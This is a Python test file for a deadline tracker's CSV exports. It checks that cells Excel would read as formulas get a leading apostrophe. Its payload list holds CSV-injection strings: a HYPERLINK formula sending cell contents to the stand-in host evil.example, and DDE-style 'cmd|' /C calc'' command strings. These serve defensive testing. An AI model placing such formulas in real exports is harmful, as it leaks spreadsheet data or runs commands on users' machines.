"""CSV exports are made for Excel: a text cell that Excel would read as a formula (OWASP: starting with =, +, -, @,
tab or carriage return) gets a leading apostrophe, in both exports. Read back with Python's csv module."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from tracker.regulations.export_views import neutralise
from tracker.regulations.models import Deadline, Regulation

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(response):
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("value", PAYLOADS)
def test_the_rule(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["DSA", "2026-01-01", "", "a=b", "e-mail", 3, -3, True])
def test_other_values_pass_unchanged(value):
    assert neutralise(value) == value


def test_both_exports_neutralise_every_payload(viewer, seeded):
    with seeded.transaction() as s:
        dsa = s.scalars(select(Regulation).where(Regulation.key == "DSA")).one()
        dsa.title = dsa.title_en = PAYLOADS[0]
        deadlines = s.scalars(select(Deadline).order_by(Deadline.id)).all()[: len(PAYLOADS)]
        for deadline, payload in zip(deadlines, PAYLOADS, strict=True):
            deadline.title = deadline.title_en = payload
    cells = {cell for row in _rows(viewer.get("/export/dates.csv")) for cell in row}
    for payload in PAYLOADS:
        assert "'" + payload in cells and payload not in cells
    # The rule holds whatever the language of the headers and words.
    for language, title in (("nl", "Titel"), ("en", "Title")):
        board = _rows(viewer.get("/export/board.csv", headers={"Accept-Language": language}))
        header = board[0]
        dsa_row = next(r for r in board[1:] if r[0] == "DSA")
        assert dsa_row[header.index(title)] == "'" + PAYLOADS[0]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in board for cell in row)
    english = _rows(viewer.get("/export/dates.csv", headers={"Accept-Language": "en"}))
    assert english[0][:4] == ["Type", "Regulation", "Subject", "Date"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in english for cell in row)
